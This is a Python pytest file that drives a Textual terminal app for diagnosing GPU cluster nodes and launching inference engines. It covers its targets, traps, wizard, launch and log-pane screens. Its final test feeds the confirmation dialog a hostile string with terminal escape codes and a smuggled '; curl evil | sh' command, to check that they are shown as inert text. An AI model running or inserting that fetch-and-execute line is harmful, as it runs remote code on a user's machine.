"""The Textual app, driven headless with App.run_test() and Pilot: every screen, its main flows.

Real parts: the real node probe's output (tests/fixtures/tui/three-nodes.tar.gz, see
tests/tui_fixtures.py), the real plan, the real launcher starting real processes
(tests/fake_engine.py stands in for the engine; the built-in kernel test runs on PyTorch's
gloo backend when a PyTorch is available).
"""

from __future__ import annotations

import sys
import tarfile
import time
from pathlib import Path

import pytest
from epdoctor.screens.app import EpdoctorApp
from epdoctor.screens.explain import ConfirmScreen, ExplainScreen
from epdoctor.screens.launch import LaunchScreen
from epdoctor.screens.logpane import LogPane
from epdoctor.screens.targets import TargetsScreen
from epdoctor.screens.tour import TourScreen
from epdoctor.screens.traps import TrapsScreen
from epdoctor.screens.wizard import WizardScreen
from launch_helpers import TORCH_PY, alive, free_port, needs_torch

HERE = Path(__file__).resolve().parent
BUNDLE = str(HERE / "fixtures" / "tui" / "three-nodes.tar.gz")
ENGINE = str(HERE / "fake_engine.py")


async def wait_for(pilot, pred, timeout: float = 20.0, what: str = "condition") -> None:
    deadline = time.monotonic() + timeout
    while time.monotonic() < deadline:
        if pred():
            return
        await pilot.pause(0.05)
    raise AssertionError(f"timed out waiting for {what}")


def bundle_app(**kw) -> EpdoctorApp:
    return EpdoctorApp(target_argv=["--bundle", BUNDLE], **kw)


# --------------------------------------------------------------------------- targets
async def test_targets_diagnose_bundle_shows_facts_drift_and_grouped_findings():
    app = bundle_app()
    async with app.run_test(size=(160, 48)) as pilot:
        screen = app.screen
        assert isinstance(screen, TargetsScreen)
        summary = screen.query_one("#target-summary")
        await wait_for(pilot, lambda: "failing" in str(summary.render()), what="diagnosis")
        table = screen.query_one("#target-table")
        assert table.row_count == 3
        rows = {table.get_row_at(i)[0]: table.get_row_at(i) for i in range(3)}
        assert str(rows["p5en-b"][1]) == "FAIL"
        # gdrdrv column: p5en-b's 2.4 differs from the two nodes on 2.5 and is marked
        gdr = [
            c for c, _ in __import__("epdoctor.screens.targets", fromlist=["x"]).KEY_FACTS
        ].index("gdrdrv") + 2
        assert str(rows["p5en-b"][gdr]) == "≠2.4"
        assert str(rows["p5en-a"][gdr]) == "2.5"
        tree = screen.query_one("#findings")
        groups = [str(n.label) for n in tree.root.children]
        assert groups[0].startswith("FAIL (2)")
        fail_codes = [n.data.code for n in tree.root.children[0].children]
        assert fail_codes == ["H111", "H112"]
        assert "3 targets" in app.sub_title


async def test_enter_on_a_finding_explains_it_with_its_evidence():
    app = bundle_app()
    async with app.run_test(size=(120, 40)) as pilot:
        tree = app.screen.query_one("#findings")
        await wait_for(pilot, lambda: tree.root.children, what="findings")
        await pilot.pause(0.2)
        tree.focus()
        first_fail = tree.root.children[0].children[0]
        tree.move_cursor(first_fail)
        await pilot.press("enter")
        await wait_for(pilot, lambda: isinstance(app.screen, ExplainScreen), what="explain")
        assert app.screen.trap.code == "H111"
        assert app.screen.finding.target == "p5en-b"
        await pilot.press("escape")
        assert isinstance(app.screen, TargetsScreen)


async def test_failing_diagnosis_bad_bundle_and_unreachable_target(tmp_path):
    app = EpdoctorApp(target_argv=["--bundle", str(tmp_path / "missing.tar.gz")])
    async with app.run_test() as pilot:
        summary = app.screen.query_one("#target-summary")
        await wait_for(pilot, lambda: "could not select" in str(summary.render()), what="error")
        assert "missing.tar.gz" in str(summary.render())

    # A bundle whose one target has no probe output: that target errors, and says why.
    broken = tmp_path / "broken.tar.gz"
    with tarfile.open(BUNDLE) as src, tarfile.open(broken, "w:gz") as dst:
        for m in src.getmembers():
            if m.name != "targets/1/probe.json":
                dst.addfile(m, src.extractfile(m))
    app = EpdoctorApp(target_argv=["--bundle", str(broken)])
    async with app.run_test(size=(120, 40)) as pilot:
        summary = app.screen.query_one("#target-summary")
        await wait_for(
            pilot, lambda: "could not be diagnosed" in str(summary.render()), what="diag"
        )
        table = app.screen.query_one("#target-table")
        states = {str(table.get_row_at(i)[0]): str(table.get_row_at(i)[1]) for i in range(3)}
        assert states["p5en-b"] == "ERROR"
        labels = [str(n.label) for n in app.screen.query_one("#findings").root.children]
        assert any(lbl.startswith("ERROR p5en-b") and "no probe output" in lbl for lbl in labels)


async def test_target_flags_are_edited_and_rediagnosed(tmp_path):
    app = EpdoctorApp(target_argv=[], diagnose_on_start=False)
    async with app.run_test() as pilot:
        await pilot.press("slash")
        flags = app.screen.query_one("#target-flags")
        assert app.focused is flags
        flags.value = f"--bundle {BUNDLE}"
        await pilot.press("enter")
        await wait_for(pilot, lambda: len(app.shared.diagnoses) == 3, what="diagnosis")
        assert app.shared.target_argv == ["--bundle", BUNDLE]


# --------------------------------------------------------------------------- traps / explain
async def test_traps_search_and_filters_then_explain():
    from epdoctor import knowledge

    app = EpdoctorApp(start="traps", diagnose_on_start=False)
    async with app.run_test(size=(120, 40)) as pilot:
        screen = app.screen
        assert isinstance(screen, TrapsScreen)
        table = screen.query_one("#trap-table")
        assert table.row_count == len(knowledge.all_traps())
        await pilot.press("slash")
        await pilot.press(*"gdrdrv")
        codes = {table.get_row_at(i)[0] for i in range(table.row_count)}
        assert {"H111", "H112", "H113"} <= codes
        assert all("gdrdrv" in " ".join((t.title, t.symptom, t.why, t.fix, t.detect, t.name)).lower()
                   for t in map(knowledge.get, codes))  # fmt: skip
        screen.query_one("#trap-search").value = ""
        screen.query_one("#trap-severity").value = "unknown"
        await pilot.pause(0.1)
        sev = {table.get_row_at(i)[1] for i in range(table.row_count)}
        assert sev == {"unknown"}
        screen.query_one("#trap-severity").clear()
        screen.query_one("#trap-layer").value = "transport"
        await pilot.pause(0.1)
        assert {table.get_row_at(i)[0][0] for i in range(table.row_count)} == {"T"}
        table.focus()
        await pilot.press("enter")
        await wait_for(pilot, lambda: isinstance(app.screen, ExplainScreen), what="explain")
        assert app.screen.trap.code.startswith("T")


async def test_explain_runs_safe_commands_only_after_yes():
    from epdoctor import knowledge

    code = next(t.code for t in knowledge.all_traps() if t.fix_safe)
    app = EpdoctorApp(start="traps", diagnose_on_start=False)
    async with app.run_test(size=(120, 40)) as pilot:
        app.explain(code)
        await wait_for(pilot, lambda: isinstance(app.screen, ExplainScreen), what="explain")
        await pilot.pause(0.2)
        explain = app.screen
        log = explain.query_one("#safe-output")
        await pilot.press("r")
        await wait_for(pilot, lambda: isinstance(app.screen, ConfirmScreen), what="confirm")
        shown = [str(s.render()) for s in app.screen.query(".command")]
        assert shown == [f"$ {c}" for c in knowledge.get(code).fix_safe]
        await pilot.press("n")
        await pilot.pause(0.2)
        assert app.screen is explain and log.has_class("hidden") and log.line_count == 0
        await pilot.press("r")
        await wait_for(pilot, lambda: isinstance(app.screen, ConfirmScreen), what="confirm")
        await pilot.press("y")
        first = knowledge.get(code).fix_safe[0]
        await wait_for(pilot, lambda: any(first in ln for ln in log.lines), what="output")
        assert not log.has_class("hidden")
        assert any("[exit " in ln for ln in log.lines)


async def test_command_palette_explains_a_code():
    app = EpdoctorApp(diagnose_on_start=False, start="tour")
    async with app.run_test(size=(120, 40)) as pilot:
        await pilot.press("ctrl+p")
        await pilot.pause(0.2)
        await pilot.press(*"Explain H112")
        await pilot.pause(0.5)
        await pilot.press("enter")
        await wait_for(pilot, lambda: isinstance(app.screen, ExplainScreen), what="explain")
        assert app.screen.trap.code == "H112"


def test_no_color_is_respected(monkeypatch):
    monkeypatch.setenv("NO_COLOR", "1")
    app = EpdoctorApp(diagnose_on_start=False)
    assert app.no_color


# --------------------------------------------------------------------------- wizard
async def test_wizard_verdict_updates_live_and_writes_the_plan(tmp_path):
    app = EpdoctorApp(start="wizard", diagnose_on_start=False)
    async with app.run_test(size=(160, 48)) as pilot:
        screen = app.screen
        assert isinstance(screen, WizardScreen)
        await wait_for(pilot, lambda: app.shared.plan is not None, what="plan")
        first = app.shared.plan
        assert first.input.engine == "vllm"
        verdict = screen.query_one("#wizard-verdict")
        assert "VERDICT" in str(verdict.render())
        # SGLang on gin-proxy is not its transport: the verdict changes as the choice does.
        screen.query_one("#q-engine").value = "sglang"
        await wait_for(pilot, lambda: app.shared.plan.input.engine == "sglang", what="replan")
        plan = app.shared.plan
        assert plan.verdict != first.verdict or plan.codes() != first.codes()
        reasons = screen.query_one("#wizard-reasons")
        codes = [str(reasons.get_row_at(i)[1]) for i in range(reasons.row_count)]
        assert codes == plan.codes()
        # bare target: the namespace question gives way to the hosts question
        screen.query_one("#q-target").value = "bare"
        await wait_for(pilot, lambda: screen.query("#q-hosts"), what="hosts question")
        assert not screen.query("#q-namespace")
        # a bad answer is shown next to its field and there is no verdict
        screen.query_one("#q-nodes").value = "0"
        await wait_for(pilot, lambda: "to fix" in str(verdict.render()), what="error")
        assert str(screen.query_one("#err-nodes").render())
        screen.query_one("#q-nodes").value = "2"
        await wait_for(pilot, lambda: "VERDICT" in str(verdict.render()), what="verdict")
        # the caveat's code is one key from its explanation
        reasons.focus()
        await pilot.press("e")
        await wait_for(pilot, lambda: isinstance(app.screen, ExplainScreen), what="explain")
        assert app.screen.trap.code == app.shared.plan.codes()[0]
        await pilot.press("escape")
        out = tmp_path / "plan-out"
        screen.query_one("#wizard-out").value = str(out)
        await pilot.press("ctrl+w")
        await wait_for(pilot, lambda: (out / "plan.json").exists(), what="plan.json")
        assert app.shared.plan_dir == str(out / "plan.json")
        assert "sglang" in app.sub_title


# --------------------------------------------------------------------------- launch
def _launch_app(**kw) -> EpdoctorApp:
    return EpdoctorApp(start="launch", diagnose_on_start=False, **kw)


async def _start(pilot, app, what: str, flags: str) -> None:
    screen = app.screen
    screen.query_one("#launch-what").value = what
    screen.query_one("#launch-flags").value = flags
    await pilot.press("ctrl+l")
    await wait_for(pilot, lambda: isinstance(app.screen, ConfirmScreen), what="confirm")


async def test_launch_confirm_no_starts_nothing(tmp_path):
    port = free_port()
    app = _launch_app()
    async with app.run_test(size=(120, 40)) as pilot:
        cmd = f"{sys.executable} {ENGINE} --port {port}"
        await _start(
            pilot,
            app,
            "serve",
            f"--cmd '{cmd}' --run-dir {tmp_path} --no-preflight --url http://127.0.0.1:{port}",
        )
        shown = " ".join(str(s.render()) for s in app.screen.query(".command"))
        assert cmd in shown and str(tmp_path / "leader.log") in shown
        await pilot.press("n")
        await pilot.pause(0.3)
        assert not (tmp_path / "leader.log").exists()
        assert not app.shared.launches


async def test_launch_serve_that_fails_its_gate(tmp_path):
    port = free_port()
    app = _launch_app()
    async with app.run_test(size=(120, 40)) as pilot:
        screen = app.screen
        cmd = f"{sys.executable} {ENGINE} --port {port} --start-delay 30 --crash-after 1"
        flags = (
            f"--cmd '{cmd}' --run-dir {tmp_path} --no-preflight "
            f"--url http://127.0.0.1:{port} --startup-budget 60"
        )
        await _start(pilot, app, "serve", flags)
        await pilot.press("y")
        await wait_for(pilot, lambda: "serve verdict" in screen.gates, timeout=40, what="verdict")
        state, summary, code = screen.gates["serve"]
        assert state == "fail" and code, (state, summary, code)  # the gate names its trap
        assert "exited before it was ready" in summary or summary.startswith("stopped on")
        assert screen.gates["serve verdict"][0] == "fail"
        assert "leader" in screen.panes and screen.panes["leader"].total > 0
        assert not screen.running


async def test_a_launch_on_nodes_diagnoses_them_first_and_a_failure_starts_nothing(tmp_path):
    """The read-only preflight runs for the app's launches as for `epdoctor run`: this host
    (no GPU, no EFA) has failing findings, so the engine never starts."""
    port = free_port()
    app = _launch_app()
    async with app.run_test(size=(120, 40)) as pilot:
        screen = app.screen
        cmd = f"{sys.executable} {ENGINE} --port {port}"
        await _start(
            pilot, app, "serve", f"--cmd '{cmd}' --run-dir {tmp_path} --url http://127.0.0.1:{port}"
        )
        await pilot.press("y")
        await wait_for(pilot, lambda: not screen.running, timeout=90, what="preflight")
        state, summary, code = screen.gates["preflight"]
        assert state == "fail" and code and "nothing started" in summary, screen.gates
        assert not (tmp_path / "leader.log").exists()
        assert "leader" not in screen.panes


async def test_ctrl_c_during_a_launch_stops_everything_started(tmp_path):
    port = free_port()
    app = _launch_app()
    async with app.run_test(size=(120, 40)) as pilot:
        screen = app.screen
        cmd = f"{sys.executable} {ENGINE} --port {port} --start-delay 120"
        flags = (
            f"--cmd '{cmd}' --run-dir {tmp_path} --no-preflight "
            f"--url http://127.0.0.1:{port} --startup-budget 300"
        )
        await _start(pilot, app, "serve", flags)
        await pilot.press("y")
        await wait_for(
            pilot, lambda: app.shared.launches and app.shared.launches[0].procs, what="start"
        )
        pid = app.shared.launches[0].procs[0].pid
        assert alive(pid)
        await pilot.press("ctrl+c")
        await wait_for(pilot, lambda: not screen.running, timeout=30, what="stop")
        assert screen.gates["serve verdict"][0] == "interrupted"
        lines = [t for t, _ in screen.panes["epdoctor"].lines]
        assert any(ln.startswith("stopped: leader: pid") for ln in lines)
        assert any("everything epdoctor started is stopped" in ln for ln in lines)
        time.sleep(0.2)
        assert not alive(pid)
        assert isinstance(app.screen, LaunchScreen)  # Ctrl-C stopped the launch, not the app


async def test_launch_bad_flags_are_said_and_nothing_starts():
    app = _launch_app()
    async with app.run_test() as pilot:
        app.screen.query_one("#launch-flags").value = "--no-such-flag"
        await pilot.press("ctrl+l")
        await pilot.pause(0.3)
        assert not isinstance(app.screen, ConfirmScreen)
        assert not app.shared.launches


@needs_torch
async def test_kernel_test_on_gloo_streams_one_pane_per_rank_and_gates(tmp_path):
    app = _launch_app()
    async with app.run_test(size=(160, 48)) as pilot:
        screen = app.screen
        flags = (
            f"--backend gloo --gpus 2 --python {TORCH_PY} --no-expect-efa --run-dir {tmp_path} "
            "--no-preflight --tokens 64 --timeout 240"
        )
        await _start(pilot, app, "kernel-test", flags)
        await pilot.press("y")
        await wait_for(
            pilot, lambda: "kernel-test verdict" in screen.gates, timeout=240, what="verdict"
        )
        assert {"rank0", "rank1"} <= set(screen.panes)
        assert screen.gates["exit codes"][0] == "pass"
        assert screen.gates["numerics"][0] == "pass"
        assert screen.gates["network"][0] == "skip"


async def test_sixteen_panes_keep_a_capped_window_and_search():
    app = _launch_app()
    async with app.run_test(size=(160, 48)) as pilot:
        screen = app.screen
        for i in range(3000):
            for r in range(16):
                screen._sink(
                    f"rank{r}", f"rank {r} line {i}" + (" NCCL WARN boom" if i == 2500 else "")
                )
        screen.flush()
        await pilot.pause(0.2)
        assert len(screen.panes) == 16
        for p in screen.panes.values():
            assert p.total == 3000 and len(p.lines) == p.lines.maxlen
        pane = screen.panes["rank3"]
        assert pane.lines[-1][0] == "rank 3 line 2999"
        # the NCCL WARN line is highlighted as the log analyzer judges it: a warning (N203)
        assert pane.lines[-500][1] == "bold yellow"
        await pilot.press("slash")
        await pilot.press(*"boom", "enter")
        await pilot.pause(0.2)
        assert app.focused in screen.panes.values()
        assert all(isinstance(p, LogPane) and p.search == "boom" for p in screen.panes.values())


async def test_growing_panes_keep_the_screen_layout_and_follow_the_tail():
    app = _launch_app()
    async with app.run_test(size=(160, 48)) as pilot:
        screen = app.screen
        for i in range(20):  # past the pane's height: the scrollbars appear (one layout)
            for r in range(4):
                screen._sink(f"rank{r}", f"rank {r} line {i}")
        screen.flush()
        await pilot.pause(0.3)
        layouts: list[int] = []
        real = screen._refresh_layout
        screen._refresh_layout = lambda *a, **k: (layouts.append(1), real(*a, **k))[1]
        for i in range(20, 1520, 100):  # the windows grow batch by batch
            for k in range(100):
                for r in range(4):
                    screen._sink(f"rank{r}", f"rank {r} line {i + k}")
            screen.flush()
            await pilot.pause(0.05)
        assert layouts == []  # a longer window changes a pane's scroll limits, not the screen
        pane = screen.panes["rank2"]
        rows = pane.scrollable_content_region.height
        assert len(pane.lines) == 1520 and pane.max_scroll_y == 1520 - rows
        assert pane.scroll_offset.y == pane.max_scroll_y  # following the tail
        assert pane.vertical_scrollbar.window_virtual_size == 1520
        await pilot.pause(0.1)
        assert pane.render_line(rows - 1).text.startswith("rank 2 line 1519")


async def test_sixteen_panes_fill_rows_as_tall_as_a_pane_and_strip_escapes():
    app = _launch_app()
    async with app.run_test(size=(160, 48)) as pilot:
        screen = app.screen
        for r in range(16):
            for i in range(300):  # far more lines than a pane is tall
                screen._sink(f"rank{r}", f"rank {r} line {i}")
        screen._sink("rank0", "\x1b[31m[default0]:vm:1:1 NCCL WARN boom\x1b[0m\x07")
        screen.flush()
        await pilot.pause(0.3)
        tops = sorted({p.region.y for p in screen.panes.values()})
        assert tops == [tops[0] + 9 * i for i in range(4)]  # 4 rows of 4, no gap between rows
        scroll = screen.query_one("#pane-scroll")
        assert all(scroll.region.contains_region(p.region) for p in screen.panes.values())
        # a coloured log line shows its text, styled by its signature, without its escapes
        assert screen.panes["rank0"].lines[-1] == (
            "[default0]:vm:1:1 NCCL WARN boom",
            "bold yellow",
        )


def test_a_row_drawn_in_one_strip_matches_the_cropped_and_padded_line():
    """The one-Strip rows of ASCII lines are cell for cell what cropping the marked line gives."""
    from epdoctor.screens import logpane
    from rich.segment import Segment
    from rich.style import Style
    from textual.strip import Strip

    pane = LogPane("rank0")
    widget, base = Style(color="white", bgcolor="black"), Style(bold=True, color="red")
    style = widget + base

    def cells(segments):
        return [(ch, seg.style) for seg in segments for ch in seg.text]

    for text in ("", "abcab", "NCCL WARN ab ab abab tail", "x" * 70 + "ab"):
        for term in ("", "ab", "b", "zz", "abab"):
            pane.search = term
            for start in (0, 1, 3, 10, 60):
                for width in (1, 5, 24):
                    marked = []
                    pos = 0
                    while term and (hit := text.find(term, pos)) >= 0:
                        marked += [
                            Segment(text[pos:hit], base),
                            Segment(term, base + logpane._MATCH),
                        ]
                        pos = hit + len(term)
                    marked.append(Segment(text[pos:], base))
                    slow = Strip(marked).crop(start, start + width).extend_cell_length(width)
                    want = cells(slow.apply_style(widget))
                    got = cells(pane._row(text, start, width, style, widget))
                    assert got == want, (text, term, start, width)


async def test_keys_scroll_a_pane_at_once_and_end_follows_again():
    app = _launch_app()
    async with app.run_test(size=(160, 48)) as pilot:
        screen = app.screen
        for i in range(300):
            screen._sink("rank0", f"line {i}")
        screen.flush()
        await pilot.pause(0.3)
        pane = screen.panes["rank0"]
        pane.focus()
        end = pane.max_scroll_y
        await pilot.press("up")
        assert pane.scroll_offset.y == end - 1 and not pane.follow  # no scroll animation
        await pilot.press("pageup")
        assert pane.scroll_offset.y == end - 1 - pane.scrollable_content_region.height
        screen._sink("rank0", "line 300")
        screen.flush()
        await pilot.pause(0.1)
        assert pane.scroll_offset.y < pane.max_scroll_y  # reading back: new lines do not pull
        await pilot.press("end")
        assert pane.follow and pane.scroll_offset.y == pane.max_scroll_y
        await pilot.press("home")
        assert pane.scroll_offset.y == 0


async def test_key_help_is_rebuilt_only_when_its_keys_change():
    from textual.widgets._footer import FooterKey

    app = _launch_app()
    async with app.run_test(size=(160, 48)) as pilot:
        screen = app.screen
        for r in range(3):
            screen._sink(f"rank{r}", "a line")
        screen.flush()
        await pilot.pause(0.3)
        screen.panes["rank0"].focus()
        await pilot.pause(0.3)
        before = list(screen.query(FooterKey))
        await pilot.press("tab")  # to the next pane: the same keys
        await pilot.pause(0.3)
        assert app.focused is screen.panes["rank1"]
        assert list(screen.query(FooterKey)) == before  # the same widgets, not recomposed
        keys = {k.description for k in before}
        assert {"Launch…", "Stop all", "Search panes"} <= keys
        await pilot.press("f2")  # other keys: drawn
        await pilot.pause(0.3)
        assert "Diagnose" in {k.description for k in app.screen.query(FooterKey)}


# --------------------------------------------------------------------------- tour
async def test_tour_walks_layers_and_shows_live_facts_after_diagnosis():
    from epdoctor.knowledge import tour

    app = bundle_app(start="tour")
    async with app.run_test(size=(160, 48)) as pilot:
        screen = app.screen
        assert isinstance(screen, TourScreen)
        steps = tour.load().steps
        live = screen.query_one("#tour-live")
        await wait_for(pilot, lambda: app.shared.diagnoses, what="diagnosis")
        await pilot.press("f2")
        await pilot.press("f6")
        await pilot.press("n")
        assert screen.index == 1 and steps[1].id == "gdrcopy"
        text = str(live.render())
        assert "gdrdrv: 2.5" in text  # the first node's own fact
        assert "FAIL H111 on p5en-b" in text  # the layer's trap, seen on the fleet
        traps = screen.query_one("#tour-traps")
        assert [traps.get_row_at(i)[0] for i in range(traps.row_count)] == [
            t.code for t in steps[1].traps()
        ]
        for _ in range(len(steps) + 2):
            await pilot.press("n")
        assert screen.index == len(steps) - 1
        await pilot.press("p")
        assert screen.index == len(steps) - 2


async def test_tour_without_a_target_says_how_to_get_live_facts():
    app = EpdoctorApp(start="tour", diagnose_on_start=False)
    async with app.run_test() as pilot:
        await pilot.pause(0.2)
        assert "No target diagnosed yet" in str(app.screen.query_one("#tour-live").render())


@pytest.mark.parametrize("mode", ["targets", "traps", "wizard", "launch", "tour"])
async def test_every_screen_fits_80x24(mode):
    app = EpdoctorApp(start=mode, diagnose_on_start=False)
    async with app.run_test(size=(80, 24)) as pilot:
        await pilot.pause(0.3)
        assert app.screen.size.width == 80 and app.screen.size.height == 24
        footer = app.screen.query_one("Footer")
        assert footer.region.y == 23


async def test_log_analyzer_findings_mark_their_lines_in_the_panes():
    """A real NCCL log (NET/Plugin: Could not find), fed to the real LogAnalyzer as a launch does."""
    from epdoctor.screens.launch import evidence_text
    from epdoctor.screens.messages import LaunchFinding

    from epdoctor.logwatch import LogAnalyzer

    data = (HERE / "fixtures" / "h200-run" / "nccl-no-plugin.log").read_bytes()
    findings = [f for f in LogAnalyzer(source="rank0").feed(data) if f.status.value == "fail"]
    assert findings, "the analyzer found nothing in a log that names a missing plugin"
    app = _launch_app()
    async with app.run_test(size=(160, 48)) as pilot:
        screen = app.screen
        for line in data.decode(errors="replace").splitlines():
            screen._sink("rank0", line)
        for f in findings:
            screen.post_message(LaunchFinding("rank0", f))
        await pilot.pause(0.3)
        pane = screen.panes["rank0"]
        marked = [t for t, style in pane.lines if style == "bold reverse red"]
        for f in findings:
            for ev in f.evidence:
                assert any(evidence_text(ev) in t for t in marked), ev
        table = screen.query_one("#launch-status")
        assert {str(table.get_row_at(i)[3]) for i in range(table.row_count)} >= {
            f.code for f in findings
        }


async def test_ssh_config_hosts_fill_the_target_flags(tmp_path):
    cfg = tmp_path / "ssh_config"
    cfg.write_text(
        "Host p5en-1\n  HostName 10.0.0.1\nHost p5en-2\n  HostName 10.0.0.2\nHost *\n  User ec2-user\n"
    )
    app = EpdoctorApp(target_argv=["--ssh-config", str(cfg)], diagnose_on_start=False)
    async with app.run_test() as pilot:
        await pilot.press("ctrl+o")
        flags = app.screen.query_one("#target-flags")
        await wait_for(pilot, lambda: "--ssh " in flags.value, what="hosts")
        assert flags.value.endswith("--ssh p5en-1,p5en-2")


def test_tui_command_passes_only_target_flags_to_the_targets_screen():
    from epdoctor.commands.tui import target_argv

    argv = ["--plan", "p.json", "--bundle", "b.tar.gz", "--engine=vllm", "--ssh", "h1,h2"]
    assert target_argv(argv) == ["--bundle", "b.tar.gz", "--ssh", "h1,h2"]


async def test_a_written_plan_is_loaded_with_plan_flag(tmp_path):
    from epdoctor.plan import PlanInput, make_plan

    make_plan(PlanInput(engine="sglang", transport="nvshmem")).render(str(tmp_path))
    app = EpdoctorApp(plan_path=str(tmp_path / "plan.json"), diagnose_on_start=False)
    async with app.run_test() as pilot:
        await pilot.pause(0.1)
        assert app.shared.plan.input.engine == "sglang"
        assert "plan: sglang nvshmem" in app.sub_title


async def test_quitting_during_a_launch_stops_what_it_started(tmp_path):
    port = free_port()
    app = _launch_app()
    async with app.run_test(size=(120, 40)) as pilot:
        cmd = f"{sys.executable} {ENGINE} --port {port} --start-delay 120"
        flags = (
            f"--cmd '{cmd}' --run-dir {tmp_path} --no-preflight "
            f"--url http://127.0.0.1:{port} --startup-budget 300"
        )
        await _start(pilot, app, "serve", flags)
        await pilot.press("y")
        await wait_for(
            pilot, lambda: app.shared.launches and app.shared.launches[0].procs, what="start"
        )
        pid = app.shared.launches[0].procs[0].pid
        await pilot.press("ctrl+q")
        deadline = time.monotonic() + 20
        while time.monotonic() < deadline and alive(pid):
            await pilot.pause(0.1)
        assert not alive(pid)


async def test_after_yes_the_advertised_keys_act_on_the_panes(tmp_path):
    port = free_port()
    app = _launch_app()
    async with app.run_test(size=(120, 40)) as pilot:
        screen = app.screen
        cmd = f"{sys.executable} {ENGINE} --port {port} --start-delay 120"
        flags = f"--cmd '{cmd}' --run-dir {tmp_path} --no-preflight --url http://127.0.0.1:{port}"
        await _start(pilot, app, "serve", flags)
        await pilot.press("y")
        await wait_for(pilot, lambda: screen.running, what="running")
        field = screen.query_one("#launch-flags")
        assert app.focused is not field
        await pilot.press("w")  # wrap, not a letter typed into the flags
        assert screen.wrap and field.value == flags
        await pilot.press("s")  # stop
        await wait_for(pilot, lambda: not screen.running, timeout=30, what="stopped")
        assert field.value == flags


async def test_the_plan_screen_draft_does_not_change_what_launch_does(tmp_path):
    app = _launch_app()
    async with app.run_test(size=(120, 40)) as pilot:
        await pilot.press("f4")
        await wait_for(pilot, lambda: app.shared.plan is not None, what="draft plan")
        await pilot.press("f5")
        await pilot.pause(0.2)
        assert app.shared.launch_plan is None  # a draft is the Plan screen's own
        screen = app.screen
        screen.query_one("#launch-what").value = "smoke"
        screen.query_one("#launch-flags").value = "--url http://127.0.0.1:9 --model m"
        await pilot.press("ctrl+l")
        await wait_for(pilot, lambda: isinstance(app.screen, ConfirmScreen), what="confirm")
        await pilot.press("n")


async def test_the_confirmation_shows_plan_values_as_text():
    from textual.app import App

    class Host(App[None]):
        pass

    app = Host()
    async with app.run_test(size=(120, 30)) as pilot:
        box = ConfirmScreen(
            "bring up [/] on \x1b]0;x\x07node", ["true\x1b[2K\x1b[1A; curl evil | sh [/]"]
        )
        await app.push_screen(box)
        await pilot.pause(0.1)
        shown = " ".join(str(s.render()) for s in app.screen.query(".command"))
        assert "curl evil | sh [/]" in shown and "\x1b" not in shown
        assert "\x1b" not in box.title_text
